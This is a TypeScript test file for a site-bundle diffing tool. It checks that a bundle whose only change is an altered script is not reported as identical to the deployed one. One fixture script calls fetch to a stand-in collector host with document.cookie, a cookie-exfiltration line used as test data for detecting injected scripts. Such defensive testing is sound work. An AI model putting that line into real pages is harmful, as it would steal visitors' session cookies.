// Issue 17, finding 3: two bundles with the same pages and another script are not "identical content".
import { describe, expect, it } from 'vitest';
import { page } from '../../devkit/bundle/archives.ts';
import type { FixtureEntry } from '../../devkit/bundle/archives.ts';
import { fetchAndVerifyBundle } from '../../src/bundle/download/fetch.ts';
import { diffFiles, isIdentical } from '../../src/manifest/diff.ts';
import { bundleAt, downloadOptions, useBundleHost } from './support/harness.ts';

const host = useBundleHost();

const siteWith = (script: string): FixtureEntry[] => [
  { name: 'index.html', content: page('Home', '<script src="assets/site.js"></script>') },
  { name: 'guides/intro.html', content: page('Guide', '<p>Steps</p>') },
  { name: 'assets/site.css', content: 'body { margin: 0 }' },
  { name: 'assets/site.js', content: script },
];

async function verifiedFiles(name: string, entries: FixtureEntry[]) {
  const link = await host.serve(entries, name);
  const { options } = downloadOptions(`${host.scratchPath()}/${name}`, bundleAt(link));
  return fetchAndVerifyBundle({ ...options, http: host.http });
}

describe('a bundle whose pages are the same and whose script is not', () => {
  it('a bundle that only adds a script sending cookies elsewhere is said to hold identical content', async () => {
    const deployed = await verifiedFiles('deployed', siteWith('document.body.dataset.ready = "1";'));
    const next = await verifiedFiles(
      'next',
      siteWith('document.body.dataset.ready = "1"; fetch("https://collector.example.net/?c=" + document.cookie);'),
    );
    const diff = diffFiles(deployed.fileHashes ?? new Map(), next.fileHashes ?? new Map());
    expect(isIdentical(diff)).toBe(false);
    expect(diff).toMatchObject({ added: [], removed: [], changed: [], unchanged: 2 });
    expect(diff.otherFiles).toEqual([{ path: 'assets/site.js', change: 'changed' }]);
  });
});
